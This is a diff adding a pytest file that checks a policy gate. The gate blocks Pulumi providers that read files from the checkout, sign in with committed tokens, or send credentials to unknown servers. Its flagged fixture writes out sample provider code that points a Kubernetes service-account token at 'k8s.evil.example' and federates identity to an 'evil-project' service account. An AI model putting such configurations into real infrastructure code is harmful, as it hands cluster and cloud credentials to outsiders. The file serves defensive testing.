@@ -1,0 +1,67 @@
+"""red19 r19-1 / r19-2 / r19-3 / r19-11 end to end: `agentid preview` blocks providers that read a file the change
+may bring (by an absolute path into the checkout too), sign in with committed material, or send a kubeconfig
+credential of any kind to a server the gate cannot place; the runner's own files and an own server pass."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from .conftest import AGENT_GUARD, run_cli
+
+pytestmark = pytest.mark.skipif(not (AGENT_GUARD / "PulumiPolicy.yaml").is_file(), reason="agent_guard pack not present")
+
+KC = '''def kc(user, server="https://k8s.evil.example:6443"):
+    return json.dumps({"apiVersion": "v1", "kind": "Config", "clusters": [{"name": "c", "cluster": {"server": server}}],
+        "users": [{"name": "u", "user": user}], "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u"}}],
+        "current-context": "x"})
+'''
+FLAGGED = '''import json, pulumi, pulumi_kubernetes as k8s, pulumi_azure_native as az, pulumi_gcp as gcp
+''' + KC + '''
+k8s.Provider("abs-proc", kubeconfig="/proc/self/cwd/kc.yaml")
+k8s.Provider("abs-workspace", kubeconfig="/home/runner/work/app/app/kc.yaml")
+k8s.Provider("helm-plugins", helm_release_settings=k8s.HelmReleaseSettingsArgs(plugins_path="/proc/self/cwd/plugins"))
+k8s.Provider("token-file", kubeconfig=kc({"tokenFile": "/var/run/secrets/kubernetes.io/serviceaccount/token"}))
+az.Provider("cert-path", client_certificate_path="/proc/self/cwd/sp.pfx", client_id="c0ffee00-0000-0000-0000-000000000001")
+az.Provider("oidc-token", oidc_token="eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln", use_oidc=True)
+az.Provider("oidc-token-file", oidc_token_file_path="/proc/self/cwd/token.jwt", use_oidc=True)
+gcp.Provider("ext", external_credentials=gcp.ProviderExternalCredentialsArgs(
+    audience="//iam.googleapis.com/projects/123456/locations/global/workloadIdentityPools/p/providers/x",
+    service_account_email="collector@evil-project.iam.gserviceaccount.com",
+    identity_token="eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln"))
+'''
+LOOK_ALIKE = '''import json, pulumi, pulumi_kubernetes as k8s, pulumi_azure_native as az
+''' + KC + '''
+home = k8s.Provider("home", kubeconfig="~/.kube/config")
+k8s.Provider("helm-plugins", helm_release_settings=k8s.HelmReleaseSettingsArgs(plugins_path="~/.local/share/helm/plugins"))
+k8s.Provider("token-file", kubeconfig=kc({"tokenFile": "/var/run/secrets/kubernetes.io/serviceaccount/token"},
+                                         "https://k8s.acme.example:6443"))
+az.Provider("oidc-token-file", oidc_token_file_path="/var/run/secrets/azure/tokens/azure-identity-token", use_oidc=True)
+k8s.core.v1.Namespace("ns", metadata={"name": "team"}, opts=pulumi.ResourceOptions(provider=home))
+'''
+
+
+def preview(tmp_path: Path, program: str) -> tuple[int, list[tuple[str, str]]]:
+    tmp_path.mkdir()
+    (tmp_path / "Pulumi.yaml").write_text("name: acme\nruntime: python\n")
+    (tmp_path / "Pulumi.dev.yaml").write_text("config:\n  aws:region: eu-west-1\n  gcp:project: acme-dev\n")
+    (tmp_path / "__main__.py").write_text(program)
+    run = run_cli(tmp_path, "--stack", "dev", "--policy-pack", str(AGENT_GUARD), "--own-gcp-project", "acme-dev",
+                  "--own-host", "k8s.acme.example", "--strict-unknowns", "--json", "out.json")
+    assert run.code in (0, 1), run.stdout + run.stderr
+    violations = json.loads((tmp_path / "out.json").read_text())["violations"]
+    return run.code, sorted({(v["policy"], v["resourceName"]) for v in violations if v["mandatory"]})
+
+
+def test_changes_files_committed_sign_in_material_and_foreign_servers_block(tmp_path):
+    code, found = preview(tmp_path / "flagged", FLAGGED)
+    assert (code, found) == (1, [("AGID-PRV-001", "cert-path"), ("AGID-PRV-001", "oidc-token"),
+                                 ("AGID-PRV-001", "oidc-token-file"), ("AGID-PRV-002", "abs-proc"),
+                                 ("AGID-PRV-002", "abs-workspace"), ("AGID-PRV-002", "helm-plugins"),
+                                 ("AGID-PRV-003", "token-file"), ("AGID-PRV-004", "ext")])
+
+
+def test_the_runners_own_files_and_an_own_server_pass(tmp_path):
+    assert preview(tmp_path / "look-alike", LOOK_ALIKE) == (0, [])
